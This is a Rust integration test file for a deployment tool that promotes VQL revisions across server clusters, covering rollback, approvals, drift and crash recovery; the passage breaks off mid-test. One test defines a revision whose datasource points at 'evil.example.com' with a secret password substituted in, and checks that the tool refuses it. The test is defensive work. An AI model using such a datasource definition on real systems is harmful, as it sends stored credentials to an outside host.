//! Deployments on both metadata stores: order, failures, rollback, scripts, approval, recovery, drift. Random ones are in
//! `topologies`.

use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;
use std::time::Duration;

use landreeve_core::ids::{EventId, OuId, RunId};
use landreeve_core::{Action, Error, ErrorKind, Input, OpCtx, OpKind, Page, Permission, RunState, Secret};
use landreeve_estate::args;
use landreeve_estate::events::{Delivered, Event, Subscriber as _};
use landreeve_estate::ops::runs::{RunRef, run_cancel, run_wait};
use landreeve_estate::ops::{Origin, Run, sign_in};
use landreeve_promotion::apply::{Applied, Options, apply};
use landreeve_promotion::clusters::{ClusterFacts, cluster_create};
use landreeve_promotion::configuration::{
    Argument, Configuration, DeploymentType, RollbackScope, Script, Scripts, configuration_put,
};
use landreeve_promotion::deployments::drift::{DriftState, environment_drift};
use landreeve_promotion::deployments::{
    Closer, DEPLOYMENT, DeploymentFilter, Listed, NewDeployment, Progress, Shown, Started, State, TaskState,
    deployment_approve, deployment_cancel, deployment_delete, deployment_list, deployment_progress,
    deployment_start, revision_validate,
};
use landreeve_promotion::environments::{EnvironmentFacts, environment_create, environment_delete};
use landreeve_promotion::ids::{ClusterId, EnvironmentId, RevisionId, ServerId};
use landreeve_promotion::nouns::{DEPLOY_PRODUCTION, DEPLOY_STAGING, ENVIRONMENT, REVISION};
use landreeve_promotion::properties::{NewProperty, Parent, property_put};
use landreeve_promotion::revisions::{NewRevision, ReplaceMode, deployed_on, revision_text, revision_upload};
use landreeve_promotion::servers::{EMBEDDED, ServerFacts, server_create};
use landreeve_promotion::versions::history;
use landreeve_promotion::vql::properties::Properties;
use landreeve_promotion::{Promotion, PromotionOptions};
use landreeve_testkit::{Kit, PASSWORD};

macro_rules! on_both_stores {
    ($($name:ident)*) => {
        mod sqlite {
            $(#[tokio::test]
            async fn $name() {
                super::$name(&super::Stage::new(landreeve_testkit::Kit::new().await).await).await;
            })*
        }
        mod postgres {
            $(#[tokio::test]
            async fn $name() {
                let stage = super::Stage::new(landreeve_testkit::Kit::postgres().await).await;
                super::$name(&stage).await;
                stage.kit.remove().await;
            })*
        }
    };
}

on_both_stores! {
    all_revisions_are_executed_on_one_server_after_the_other
    a_failure_undoes_every_changed_server
    the_scope_of_a_rollback_is_configured
    everything_in_the_way_is_reported_together
    secrets_are_used_only_where_they_belong
    a_busy_environment_refuses_or_queues
    an_approval_comes_from_another_person
    a_deployment_that_never_started_is_closed
    a_dry_run_creates_nothing
    a_deployment_that_is_given_up_says_where_it_had_begun
    drift_is_found_and_can_stop_a_deployment
    an_interrupted_deployment_is_undone
    an_interrupted_deployment_that_is_cancelled_is_undone
    an_ended_deployment_is_not_undone_after_a_crash
    a_cancelled_deployment_is_undone
    others_do_not_see_a_deployment
}

pub struct Stage {
    pub kit: Kit,
    pub plane: Promotion,
    pub ctx: OpCtx,
    pub scripts: PathBuf,
}

pub(crate) use on_both_stores;

/// Needs no source.
pub const FIRST: &str = "CREATE OR REPLACE DATABASE d 'Test'; CONNECT DATABASE d; \
    CREATE OR REPLACE INTERFACE VIEW i (id:long, name:text);";
pub const SECOND: &str =
    "CONNECT DATABASE d; CREATE VIEW v AS SELECT id FROM i WHERE name = '${databases.d.x}';";

impl Stage {
    pub async fn new(kit: Kit) -> Stage {
        let scripts = kit.path("scripts");
        std::fs::create_dir_all(&scripts).unwrap();
        std::fs::set_permissions(&scripts, std::fs::Permissions::from_mode(0o755)).unwrap();
        let options = PromotionOptions {
            scripts_dir: scripts.clone(),
            git_repository: kit.path("backups"),
            ..PromotionOptions::default()
        };
        let (plane, slot) =
            landreeve_promotion::plane(kit.engine(), landreeve_testkit::files(), true, Vec::new(), options);
        let kit = kit.reopen(vec![plane]).await;
        Stage { plane: slot.get().unwrap(), ctx: kit.operator(), kit, scripts }
    }

    pub async fn environment(&self, name: &str) -> EnvironmentId {
        let facts = EnvironmentFacts { name: name.to_owned(), ..EnvironmentFacts::default() };
        environment_create(&self.plane, &self.ctx, Input::of(facts)).await.unwrap().id
    }

    pub async fn cluster(&self, environment: EnvironmentId, name: &str, enabled: bool) -> ClusterId {
        let facts = ClusterFacts {
            environment: Some(environment),
            name: name.to_owned(),
            description: None,
            enabled,
        };
        cluster_create(&self.plane, &self.ctx, Input::of(facts)).await.unwrap().id
    }

    pub async fn server(&self, cluster: ClusterId, name: &str, enabled: bool) -> ServerId {
        let facts = ServerFacts {
            cluster: Some(cluster),
            name: name.to_owned(),
            host: EMBEDDED.to_owned(),
            enabled,
            use_default_license_alias: true,
            ..ServerFacts::default()
        };
        server_create(&self.plane, &self.ctx, Input::of(facts)).await.unwrap().id
    }

    /// An environment with one cluster of these servers.
    pub async fn servers(&self, name: &str, servers: &[&str]) -> EnvironmentId {
        let environment = self.environment(name).await;
        let cluster = self.cluster(environment, &format!("{name}-1"), true).await;
        for server in servers {
            self.server(cluster, server, true).await;
        }
        environment
    }

    pub async fn configure(&self, environment: EnvironmentId, configuration: Configuration) {
        configuration_put(&self.plane, &self.ctx, environment, Input::of(configuration)).await.unwrap();
    }

    pub async fn revision(&self, name: &str, vql: &str) -> RevisionId {
        let new = NewRevision {
            name: name.to_owned(),
            description: None,
            vql: vql.as_bytes().to_vec(),
            replace: ReplaceMode::Replace,
            properties: Some(b"databases.d.x = here\n".to_vec()),
        };
        revision_upload(&self.plane, &self.ctx, Input::of(new)).await.unwrap().id
    }

    pub async fn property(&self, environment: EnvironmentId, name: &str, value: &str) {
        let new = NewProperty { name: name.to_owned(), value: value.to_owned(), undefined: false };
        let parent = Parent::Environment(environment);
        property_put(&self.plane, &self.ctx, parent, Input::of(vec![new])).await.unwrap();
    }

    pub async fn try_start(
        &self,
        ctx: &OpCtx,
        environment: EnvironmentId,
        revisions: &[RevisionId],
    ) -> Result<Started, Error> {
        let new = NewDeployment {
            environment,
            revisions: revisions.to_vec(),
            description: "weekly".to_owned(),
            dry_run: false,
        };
        deployment_start(&self.plane, ctx, Input::of(new)).await
    }

    pub async fn start(&self, environment: EnvironmentId, revisions: &[RevisionId]) -> Run {
        match self.try_start(&self.ctx, environment, revisions).await.unwrap() {
            Started::Run(run) => *run,
            other => panic!("{other:?}"),
        }
    }

    pub async fn progress(&self, id: RunId) -> Progress {
        deployment_progress(&self.plane, &self.ctx, id, None).await.unwrap().unwrap()
    }

    /// Waits for the end, and checks on the way that progress never goes back.
    pub async fn ended(&self, run: &Run) -> Progress {
        let mut percent = 0;
        for _ in 0..2_000 {
            let found = self.progress(run.id).await;
            assert!(found.percent >= percent, "from {percent} to {}", found.percent);
            percent = found.percent;
            let ended = matches!(found.deployment.state, Shown::Ended(_));
            assert_eq!(percent == 100, ended);
            if ended {
                assert!(found.tasks.iter().all(|task| task.state.is_final()), "{found:#?}");
                run_wait(&self.kit.estate, &self.ctx, RunRef::Id(run.id), &[], Duration::from_secs(30))
                    .await
                    .unwrap();
                return found;
            }
            let wait = Duration::from_millis(50);
            run_wait(&self.kit.estate, &self.ctx, RunRef::Id(run.id), &[], wait).await.unwrap();
        }
        panic!("the deployment does not end");
    }

    pub async fn apply(&self, node: &str, text: &str) -> Applied {
        let done =
            apply(&self.plane, &self.ctx, node, text.to_owned(), Properties::new(), Options::default());
        done.await.unwrap()
    }

    /// The version that queries on a node read.
    pub async fn version(&self, node: &str) -> i64 {
        let versions = history(&self.plane, &self.ctx, node).await.unwrap();
        versions.iter().find(|version| version.current).map_or(0, |version| version.number)
    }

    /// How many services of a deployment were told to be deployed.
    pub async fn told(&self, id: RunId) -> usize {
        let rows = self.kit.rows("SELECT kind, body FROM outbox").await;
        let own = format!("\"deployment\":{},", id.0);
        rows.iter().filter(|row| row[0] == "deployment_finished" && row[1].contains(&own)).count()
    }

    /// Delivers the end of a run to the plane.
    pub async fn deliver(&self, id: RunId, state: RunState) {
        let event = Event::RunFinished { run: id, kind: DEPLOYMENT.kind, state, noun_id: None };
        let event = Delivered { id: EventId(1), ou: OuId::ROOT, at: self.kit.estate.now(), event };
        for _ in 0..2 {
            Closer(self.plane.clone()).handle(&event).await.unwrap();
        }
    }

    pub fn script(&self, name: &str, text: &str) {
        let path = self.scripts.join(name);
        std::fs::write(&path, text).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

fn states(progress: &Progress) -> Vec<TaskState> {
    progress.tasks.iter().map(|task| task.state).collect()
}

async fn all_revisions_are_executed_on_one_server_after_the_other(stage: &Stage) {
    let environment = stage.environment("production").await;
    let one = stage.cluster(environment, "one", true).await;
    let off = stage.cluster(environment, "off", false).await;
    let two = stage.cluster(environment, "two", true).await;
    for (cluster, name, enabled) in
        [(one, "s1", true), (one, "s2", false), (off, "s3", true), (two, "s4", true)]
    {
        stage.server(cluster, name, enabled).await;
    }
    stage.property(environment, "databases.d.x", "it's").await;
    let revisions = [stage.revision("First", FIRST).await, stage.revision("Second", SECOND).await];
    stage.kit.start_planes().await;
    let run = stage.start(environment, &revisions).await;
    let ended = stage.ended(&run).await;
    assert_eq!(ended.deployment.state, Shown::Ended(State::Ok), "{ended:#?}");
    let shown: Vec<_> = ended
        .tasks
        .iter()
        .map(|task| {
            let server = task.server.as_ref().map_or("", |(_, name)| name.as_str());
            (task.kind.as_str(), server, task.name.as_str(), task.output.as_str())
        })
        .collect();
    let first = ("Revision First VQL deployment", " - Executed 3 of 3 VQL commands");
    let second = ("Revision Second VQL deployment", " - Executed 2 of 2 VQL commands");
    assert_eq!(
        shown,
        [
            ("SERVER_DEPLOYMENT", "s2", "Server s2 is disabled", ""),
            ("CLUSTER_DEPLOYMENT", "", "Cluster off is disabled", ""),
            ("VQL", "s1", first.0, first.1),
            ("VQL", "s1", second.0, second.1),
            ("VQL", "s4", first.0, first.1),
            ("VQL", "s4", second.0, second.1),
        ]
    );
    for (node, version) in [("s1", 1), ("s2", 0), ("s3", 0), ("s4", 1)] {
        assert_eq!(stage.version(node).await, version, "{node}: all revisions are one version");
    }
    assert_eq!(stage.told(run.id).await, 1, "one for the virtual database d");
    let deployed = deployed_on(&stage.plane, &stage.ctx, &revisions).await.unwrap();
    assert!(revisions.iter().all(|id| deployed[id].len() == 1), "{deployed:?}");
    // The same again changes nothing, and is listed once.
    let again = stage.start(environment, &[revisions[0]]).await;
    assert_eq!(stage.ended(&again).await.deployment.state, Shown::Ended(State::Ok));
    assert_eq!(stage.version("s1").await, 1);
    let deployed = deployed_on(&stage.plane, &stage.ctx, &revisions).await.unwrap();
    assert_eq!(deployed[&revisions[0]].len(), 1);
    let listed =
        deployment_list(&stage.plane, &stage.ctx, &DeploymentFilter::default(), Page::first(10)).await;
    let ids: Vec<RunId> = listed
        .unwrap()
        .items
        .iter()
        .map(|listed| match listed {
            Listed::Deployment(found) => found.id,
            Listed::Run { id, .. } => *id,
        })
        .collect();
    assert_eq!(ids, [again.id, run.id]);
    deployment_delete(&stage.plane, &stage.ctx, run.id).await.unwrap();
    assert!(deployment_progress(&stage.plane, &stage.ctx, run.id, None).await.unwrap().is_none());
}

/// Three servers; the second has what the second revision cannot create again.
async fn blocked(stage: &Stage) -> (EnvironmentId, [RevisionId; 2]) {
    let environment = stage.servers("production", &["s1", "s2", "s3"]).await;
    stage.apply("s2", &format!("{FIRST} CREATE VIEW v AS SELECT id FROM i")).await;
    stage.property(environment, "databases.d.x", "x").await;
    (environment, [stage.revision("First", FIRST).await, stage.revision("Second", SECOND).await])
}

async fn a_failure_undoes_every_changed_server(stage: &Stage) {
    let (environment, revisions) = blocked(stage).await;
    stage.kit.start_planes().await;
    let run = stage.start(environment, &revisions).await;
    let ended = stage.ended(&run).await;
    assert_eq!(ended.deployment.state, Shown::Ended(State::Error));
    use TaskState::{Error as Failed, Ok as Good, Skipped};
    assert_eq!(states(&ended), [Good, Good, Skipped, Failed, Skipped, Skipped, Good]);
    let failed = &ended.tasks[3];
    assert!(failed.output.starts_with(" - Executed 1 of 2 VQL commands\n - line 1, column "), "{failed:?}");
    assert!(failed.output.contains("already exists") && !failed.output.contains("'x'"), "{failed:?}");
    assert_eq!((ended.tasks[6].kind.as_str(), ended.tasks[6].name.as_str()), ("ROLLBACK", "Rollback of s1"));
    let message = "the revisions could not be applied to the server s2; rolled back: s1";
    assert_eq!(ended.deployment.message, message);
    for (node, version) in [("s1", 0), ("s2", 1), ("s3", 0)] {
        assert_eq!(stage.version(node).await, version, "{node}");
    }
    let run = stage.kit.run(&run).await;
    assert_eq!((run.state, run.error.unwrap().message.as_str()), (RunState::Failed, message));
    assert_eq!(stage.told(run.id).await, 1, "a failure is told too");
    assert_eq!(stage.kit.number("SELECT count(*) FROM promotion_server_states").await, 0);
}

async fn the_scope_of_a_rollback_is_configured(stage: &Stage) {
    let (environment, revisions) = blocked(stage).await;
    stage.kit.start_planes().await;
    for (enabled, scope) in [(false, RollbackScope::AllTouched), (true, RollbackScope::FirstServer)] {
        let configuration =
            Configuration { rollback_enabled: enabled, rollback_scope: scope, ..Configuration::default() };
        stage.configure(environment, configuration).await;
        stage.apply("s1", "DROP DATABASE IF EXISTS d CASCADE").await;
        let before = stage.version("s1").await;
        let run = stage.start(environment, &revisions).await;
        let ended = stage.ended(&run).await;
        assert!(ended.deployment.message.ends_with("; left with the new version: s1"), "{ended:#?}");
        assert!(stage.version("s1").await > before);
        assert_eq!(stage.kit.number("SELECT count(*) FROM promotion_server_states").await, 1);
    }
}

async fn everything_in_the_way_is_reported_together(stage: &Stage) {
    let environment = stage.environment("production").await;
    let cluster = stage.cluster(environment, "one", true).await;
    let facts = ServerFacts {
        cluster: Some(cluster),
        name: "far".to_owned(),
        host: "far.example.com".to_owned(),
        port: Some(9_999),
        enabled: true,
        use_kerberos: true,
        use_default_license_alias: true,
        ..ServerFacts::default()
    };
    server_create(&stage.plane, &stage.ctx, Input::of(facts)).await.unwrap();
    stage.script("out", "#!/bin/sh\n");
    let variable = |name: &str| vec![Argument::Variable(name.to_owned())];
    let configuration = Configuration {
        deployments_enabled: false,
        deployment_type: DeploymentType::NoDowntime,
        configured_clusters: Some(7),
        scripts: Scripts {
            disable_server: Some(Script { file: "out".to_owned(), arguments: variable("pool") }),
            enable_server: Some(Script { file: "none".to_owned(), arguments: variable("name") }),
            ..Scripts::default()
        },
        ..Configuration::default()
    };
    stage.configure(environment, configuration).await;
    let second = stage.revision("Second", SECOND).await;
    let Started::Refused(error, validation) =
        stage.try_start(&stage.ctx, environment, &[second]).await.unwrap()
    else {
        panic!("it was started");
    };
    let messages: Vec<&str> = error.faults.iter().map(|fault| fault.message.as_str()).collect();
    for part in [
        "are disabled in its configuration",
        "is for 7 clusters, but 1 are enabled",
        "the server far has useKerberos",
        "the server far is on another machine and has no user name and password",
        "the script \"none\" to enable a server does not exist",
        "the server far has no value for the variable pool",
    ] {
        assert!(messages.iter().any(|message| message.contains(part)), "{part}: {messages:?}");
    }
    assert_eq!((error.kind, messages.len()), (ErrorKind::Conflict, 6), "{messages:?}");
    assert_eq!(validation.problems[0].missing, ["databases.d.x"]);

    // Without properties it is an error; with only properties, none.
    let first = stage.revision("First", FIRST).await;
    let error = stage.try_start(&stage.ctx, environment, &[first]).await.unwrap_err();
    assert_eq!((error.kind, error.faults.len()), (ErrorKind::Conflict, 6));
    let other = stage.servers("test", &["t1"]).await;
    let Started::Invalid(validation) = stage.try_start(&stage.ctx, other, &[first, second]).await.unwrap()
    else {
        panic!("it was started");
    };
    assert_eq!((validation.problems.len(), validation.problems[0].revision.as_str()), (1, "Second"));
    assert_eq!(validation.missing["databases.d.x"], "here");
    assert_eq!(stage.kit.number("SELECT count(*) FROM promotion_deployments").await, 0);

    for (revisions, code) in [(vec![], "required"), (vec![first, first], "repeated")] {
        let error = stage.try_start(&stage.ctx, other, &revisions).await.unwrap_err();
        assert_eq!((error.kind, error.faults[0].code), (ErrorKind::Invalid, code));
    }
    for (environment, revision) in [(EnvironmentId(99), first), (other, RevisionId(99))] {
        let error = stage.try_start(&stage.ctx, environment, &[revision]).await.unwrap_err();
        assert_eq!(error.kind, ErrorKind::NotFound);
    }
}

async fn secrets_are_used_only_where_they_belong(stage: &Stage) {
    const SECRET: &str = "databases.d.datasources.jdbc.s.USERPASSWORD";
    const ADDRESS: &str = "databases.d.datasources.jdbc.s.DATABASEURI";
    let environment = stage.servers("production", &["s1"]).await;
    stage.property(environment, SECRET, "generated-secret").await;
    stage.property(environment, ADDRESS, "jdbc:postgresql://127.0.0.1:1/x").await;
    let source = |address: &str| {
        format!(
            "CREATE DATABASE d; CONNECT DATABASE d; CREATE DATASOURCE JDBC s DATABASEURI = '{address}' \
             USERNAME = 'u' USERPASSWORD = '${{{SECRET}}}'"
        )
    };
    let stolen = stage.revision("stolen", &source("jdbc:postgresql://evil.example.com/x")).await;
    let shown = stage.revision("shown", &format!("CREATE DATABASE e '${{{SECRET}}}'")).await;
    let Started::Invalid(validation) =
        stage.try_start(&stage.ctx, environment, &[stolen, shown]).await.unwrap()
    else {
        panic!("it was started");
    };
    let faults: Vec<usize> = validation.problems.iter().map(|problems| problems.faults.len()).collect();
    assert_eq!(faults, [1, 1], "{validation:#?}");
    assert!(!format!("{validation:?}").contains("generated-secret"));
    stage.kit.start_planes().await;
    let good = stage.revision("good", &source(&format!("${{{ADDRESS}}}"))).await;
    let run = stage.start(environment, &[good]).await;
    let ended = stage.ended(&run).await;
    assert_eq!(ended.deployment.state, Shown::Ended(State::Ok), "{ended:#?}");
    assert!(!format!("{ended:?}").contains("generated-secret"));
}

async fn a_busy_environment_refuses_or_queues(stage: &Stage) {
    let environment = stage.servers("production", &["s1"]).await;
    let other = stage.servers("test", &["t1"]).await;
    let first = [stage.revision("First", FIRST).await];
    let running = stage.start(environment, &first).await;
    let error = stage.try_start(&stage.ctx, environment, &first).await.unwrap_err();
    assert_eq!((error.kind, error.code), (ErrorKind::Conflict, "deploying"), "{error:?}");
    let beside = stage.start(other, &first).await;
    stage.configure(environment, Configuration { queue_deployments: true, ..Configuration::default() }).await;
    let waits = stage.start(environment, &first).await;
    assert_eq!(stage.kit.number("SELECT count(*) FROM promotion_deployments").await, 3);
    let error = environment_delete(&stage.plane, &stage.ctx, environment).await.unwrap_err();
    assert_eq!(error.kind, ErrorKind::Conflict);
    stage.kit.start_planes().await;
    for run in [&running, &beside, &waits] {
        assert_eq!(stage.ended(run).await.deployment.state, Shown::Ended(State::Ok));
    }
    environment_delete(&stage.plane, &stage.ctx, environment).await.unwrap();
    let kept = stage.progress(running.id).await;
    assert_eq!(kept.deployment.environment.1, "production", "the record stays");
}

/// A person with these permissions in the root unit.
async fn person(stage: &Stage, name: &str, permissions: &[Permission]) -> OpCtx {
    stage.kit.person(name, permissions).await
}

const DEPLOYER: [Permission; 3] = [
    Permission::new(ENVIRONMENT, Action::VIEW),
    Permission::new(REVISION, Action::USE),
    Permission::new(DEPLOY_PRODUCTION, Action::USE),
];

async fn an_approval_comes_from_another_person(stage: &Stage) {
    let environment = stage.servers("production", &["s1"]).await;
    stage.configure(environment, Configuration { approvals_required: 1, ..Configuration::default() }).await;
    let first = [stage.revision("First", FIRST).await];
    let run = stage.start(environment, &first).await;
    assert_eq!((run.state, stage.progress(run.id).await.deployment.state), (RunState::Held, Shown::Held));
    let ann = person(stage, "ann", &DEPLOYER).await;
    let bob = person(stage, "bob", &DEPLOYER[..2]).await;
    for (ctx, kind) in [(&stage.ctx, ErrorKind::Forbidden), (&bob, ErrorKind::Forbidden)] {
        assert_eq!(deployment_approve(&stage.plane, ctx, run.id).await.unwrap_err().kind, kind);
    }
    // Who may approve it sees what that would deploy, until it is approved, and cannot cancel it.
    let seen = async |ctx: &OpCtx| {
        let held = DeploymentFilter { states: vec![Shown::Held], ..DeploymentFilter::default() };
        let listed = deployment_list(&stage.plane, ctx, &held, Page::first(10)).await.unwrap().total;
        let progress = deployment_progress(&stage.plane, ctx, run.id, None).await.is_ok();
        let script = revision_text(&stage.plane, ctx, first[0]).await.is_ok();
        let plan = revision_validate(&stage.plane, ctx, first[0], environment).await;
        (listed, progress, script, plan.is_ok_and(|(_, plan)| plan.is_some()))
    };
    let elsewhere = [DEPLOYER[0], DEPLOYER[1], Permission::new(DEPLOY_STAGING, Action::USE)];
    let eve = person(stage, "eve", &elsewhere).await;
    assert_eq!(seen(&ann).await, (1, true, true, true));
    for ctx in [&bob, &eve] {
        assert_eq!(seen(ctx).await, (0, false, false, false));
    }
    let error = deployment_cancel(&stage.plane, &ann, run.id).await.unwrap_err();
    assert_eq!(error.kind, ErrorKind::Forbidden);
    // Also in a unit below that of the revision.
    let below = stage.kit.ou("Below").await;
    stage.kit.user_in(below.id, "una", &DEPLOYER).await;
    let origin = Origin { request_id: stage.kit.estate.uuid(), address: None, kind: OpKind::CommandLine };
    let una = sign_in::by_password(&stage.kit.estate, "una", Secret::new(PASSWORD), Some(below.uuid), origin);
    let una = una.await.unwrap();
    assert_eq!(seen(&una).await, (0, false, false, false));
    let moved = "UPDATE promotion_deployments SET ou_id = $2 WHERE id = $1";
    stage.kit.exec(moved, args![run.id, below.id]).await;
    stage.kit.exec("UPDATE runs SET ou_id = $2 WHERE id = $1", args![run.id, below.id]).await;
    let (listed, progress, script, _) = seen(&una).await;
    assert_eq!((listed, progress, script), (1, true, true));
    stage.kit.exec(moved, args![run.id, OuId::ROOT]).await;
    stage.kit.exec("UPDATE runs SET ou_id = $2 WHERE id = $1", args![run.id, OuId::ROOT]).await;
    deployment_approve(&stage.plane, &ann, run.id).await.unwrap();
    assert_eq!(seen(&ann).await, (0, false, false, false));
    assert_eq!(deployment_approve(&stage.plane, &ann, run.id).await.unwrap_err().kind, ErrorKind::Conflict);
    stage.kit.start_planes().await;
    assert_eq!(stage.ended(&run).await.deployment.state, Shown::Ended(State::Ok));
}

async fn a_deployment_that_never_started_is_closed(stage: &Stage) {
    let environment = stage.servers("production", &["s1"]).await;
    let configuration = Configuration { approvals_required: 1, ..Configuration::default() };
    stage.configure(environment, configuration).await;
    let first = [stage.revision("First", FIRST).await];
    let cancelled = stage.start(environment, &first).await;
    deployment_cancel(&stage.plane, &stage.ctx, cancelled.id).await.unwrap();
    let late = stage.start(environment, &first).await;
    let sql =
        "UPDATE runs SET state = 'timed_out', error_message = 'it was not released in time' WHERE id = $1";
    stage.kit.exec(sql, args![late.id]).await;
    for (run, ended, state) in
        [(&cancelled, RunState::Cancelled, State::Cancelled), (&late, RunState::TimedOut, State::Error)]
    {
        stage.deliver(run.id, ended).await;
        let found = stage.progress(run.id).await;
        assert_eq!((found.deployment.state, found.percent), (Shown::Ended(state), 100));
        assert_eq!(states(&found), [TaskState::Skipped]);
        assert!(!found.deployment.message.is_empty());
        assert_eq!(stage.told(run.id).await, 0, "nothing was touched");
    }
    assert_eq!(stage.version("s1").await, 0);
}

async fn a_deployment_that_is_given_up_says_where_it_had_begun(stage: &Stage) {
    let environment = stage.servers("production", &["s1", "s2"]).await;
    let run = stage.start(environment, &[stage.revision("First", FIRST).await]).await;
    let sql = "UPDATE promotion_deployment_servers SET phase = 'applying', from_version = 0 \
               WHERE deployment_id = $1 AND server_name = 's1'";
    stage.kit.exec(sql, args![run.id]).await;
    stage
        .kit
        .exec("UPDATE runs SET state = 'failed', error_message = 'broken' WHERE id = $1", args![run.id])
        .await;
    stage.deliver(run.id, RunState::Failed).await;
    let found = stage.progress(run.id).await;
    assert_eq!(found.deployment.message, "broken; it had begun to change: s1");
    assert_eq!(found.deployment.state, Shown::Ended(State::Error));
}

async fn a_dry_run_creates_nothing(stage: &Stage) {
    let environment = stage.servers("production", &["s1", "s2"]).await;
    stage.property(environment, "databases.d.x", "x").await;
    stage.apply("s2", &format!("{FIRST} CREATE VIEW v AS SELECT id FROM i")).await;
    let revisions = [stage.revision("First", FIRST).await, stage.revision("Second", SECOND).await];
    let new = NewDeployment {
        environment,
        revisions: revisions.to_vec(),
        description: String::new(),
        dry_run: true,
    };
    let Started::Planned(validation, plan) =
        deployment_start(&stage.plane, &stage.ctx, Input::of(new)).await.unwrap()
    else {
        panic!("it was started");
    };
    assert!(validation.is_ok());
    let shown: Vec<_> = plan
        .iter()
        .map(|server| (server.server.as_str(), server.changes.len(), server.failing.len()))
        .collect();
    assert_eq!(shown, [("s1", 3, 0), ("s2", 0, 1)], "{plan:#?}");
    assert_eq!((plan[1].failing[0].revision.as_str(), plan[1].failing[0].line), ("Second", 1));
    assert_ne!(plan[0].from_hash, plan[0].to_hash);
    let (validation, plans) =
        revision_validate(&stage.plane, &stage.ctx, revisions[0], environment).await.unwrap();
    assert!(validation.is_ok() && plans.unwrap().len() == 2);
    // A script starts without a database, whatever the one before it left open.
    let loose = stage.revision("Loose", "CREATE VIEW w AS SELECT 1 AS a FROM dual()").await;
    let (revisions, description) = (vec![revisions[0], loose], String::new());
    let new = NewDeployment { environment, revisions, description, dry_run: true };
    let Started::Planned(_, plan) = deployment_start(&stage.plane, &stage.ctx, Input::of(new)).await.unwrap()
    else {
        panic!("it was started");
    };
    assert!(plan[0].failing[0].message.contains("no database is connected"), "{plan:#?}");
    for table in ["promotion_deployments", "promotion_tasks"] {
        let rows = stage.kit.rows(&format!("SELECT 'x' FROM {table}")).await;
        assert!(rows.is_empty(), "{table}");
    }
    assert_eq!((stage.version("s1").await, stage.version("s2").await), (0, 1));
}

async fn drift_is_found_and_can_stop_a_deployment(stage: &Stage) {
    let environment = stage.servers("production", &["s1", "s2"]).await;
    let first = [stage.revision("First", FIRST).await];
    let found = environment_drift(&stage.plane, &stage.ctx, environment).await.unwrap();
    assert!(found.iter().all(|server| server.state == DriftState::NeverDeployed), "{found:?}");
    stage.kit.start_planes().await;
    let run = stage.start(environment, &first).await;
    stage.ended(&run).await;
    stage.apply("s2", "CONNECT DATABASE d; CREATE VIEW w AS SELECT id FROM i").await;
    let found = environment_drift(&stage.plane, &stage.ctx, environment).await.unwrap();
    let shown: Vec<_> = found
        .iter()
        .map(|server| (server.state, server.changes.as_ref().unwrap().len(), server.live_hash.is_some()))
        .collect();
    assert_eq!(shown, [(DriftState::InSync, 0, true), (DriftState::Drifted, 1, true)]);
    stage.configure(environment, Configuration { refuse_on_drift: true, ..Configuration::default() }).await;
    let error = stage.try_start(&stage.ctx, environment, &first).await.unwrap_err();
    assert!(error.message.contains("the server s2 was changed since"), "{error:?}");
}

/// Makes it as if a server had died while it was deploying to `s2`: `s1` is deployed, and what became of `s2` is in its
/// node.
pub async fn crashed(stage: &Stage, reached: bool, configuration: Configuration) -> Run {
    let environment = stage.servers("production", &["s1", "s2", "s3"]).await;
    stage.configure(environment, configuration).await;
    let first = [stage.revision("First", FIRST).await];
    let run = stage.start(environment, &first).await;
    let id = run.id;
    stage.apply("s1", FIRST).await;
    stage
        .kit
        .exec(
            "UPDATE promotion_deployment_servers SET phase = 'applied', from_version = 0, to_version = 1 \
             WHERE deployment_id = $1 AND server_name = 's1'",
            args![id],
        )
        .await;
    stage
        .kit
        .exec(
            "UPDATE promotion_deployment_servers SET phase = 'applying', from_version = 0 \
             WHERE deployment_id = $1 AND server_name = 's2'",
            args![id],
        )
        .await;
    for (server, state) in [("s1", "ok"), ("s2", "in_progress")] {
        let sql = "UPDATE promotion_tasks SET state = $2 WHERE deployment_id = $1 AND server_name = $3 AND type = 'VQL'";
        stage.kit.exec(sql, args![id, state, server]).await;
    }
    if reached {
        stage.apply("s2", FIRST).await;
        let sql = "INSERT INTO virtual_applications (node_id, key, from_version, version, applied_at) \
                   SELECT p.node_id, 'deployment:' || CAST($1 AS TEXT) || ':' || CAST(p.id AS TEXT), 0, 1, 0 \
                   FROM promotion_servers p WHERE p.name = 's2'";
        stage.kit.exec(sql, args![run.uuid.to_string()]).await;
    }
    lose(stage, &run).await;
    run
}

/// The node that executed a run is gone.
async fn lose(stage: &Stage, run: &Run) {
    stage
        .kit
        .exec(
            "UPDATE runs SET state = 'running', attempt = 1, node_id = 999, occupies = 1, lease_until = 1 WHERE id = $1",
            args![run.id],
        )
        .await;
}

async fn an_interrupted_deployment_is_undone(stage: &Stage) {
    let run = crashed(stage, true, Configuration::default()).await;
    stage.kit.start_planes().await;
    let ended = stage.ended(&run).await;
    assert_eq!(ended.deployment.state, Shown::Ended(State::Error));
    let message = "the server stopped while it was deploying; rolled back: s1, s2";
    assert_eq!(ended.deployment.message, message);
    let last = ended.tasks.last().unwrap();
    assert_eq!((last.kind.as_str(), last.output.clone()), ("RECOVERY", format!(" - {message}")));
    for node in ["s1", "s2", "s3"] {
        assert_eq!(stage.version(node).await, 0, "{node}");
    }
    assert_eq!(stage.told(run.id).await, 1);
}

/// Also while it waits for a worker that undoes it.
async fn an_interrupted_deployment_that_is_cancelled_is_undone(stage: &Stage) {
    let run = crashed(stage, true, Configuration::default()).await;
    // As the next start of a server leaves it.
    let sql = "UPDATE runs SET state = 'queued', cleans_up = 1, node_id = NULL, lease_until = NULL, occupies = 0 WHERE id = $1";
    stage.kit.exec(sql, args![run.id]).await;
    deployment_cancel(&stage.plane, &stage.ctx, run.id).await.unwrap();
    stage.kit.start_planes().await;
    let ended = stage.ended(&run).await;
    for node in ["s1", "s2", "s3"] {
        assert_eq!(stage.version(node).await, 0, "{node}: {ended:#?}");
    }
}

async fn an_ended_deployment_is_not_undone_after_a_crash(stage: &Stage) {
    let run = crashed(stage, false, Configuration::default()).await;
    let sql = "UPDATE promotion_deployments SET state = 'ok' WHERE id = $1";
    stage.kit.exec(sql, args![run.id]).await;
    stage.kit.start_planes().await;
    assert_eq!(stage.kit.ended(&run).await.state, RunState::Succeeded);
    assert_eq!(stage.version("s1").await, 1);
}

async fn a_cancelled_deployment_is_undone(stage: &Stage) {
    let environment = stage.servers("production", &["s1", "s2"]).await;
    let log = stage.kit.path("log");
    // The first server is taken out only when the file is there.
    let gate = stage.kit.path("gate");
